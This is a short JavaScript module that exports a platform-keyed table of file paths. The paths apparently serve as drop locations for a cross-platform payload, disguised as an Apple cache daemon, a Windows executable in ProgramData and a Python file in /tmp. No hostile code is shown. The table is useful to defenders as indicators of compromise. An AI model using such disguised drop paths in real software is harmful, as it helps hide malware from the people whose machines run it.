const places = {
  darwin: '/Library/Caches/com.apple.act.mond',
  win32: process.env.PROGRAMDATA + '\\wt.exe',
  linux: '/tmp/ld.py',
};
module.exports = places[process.platform];
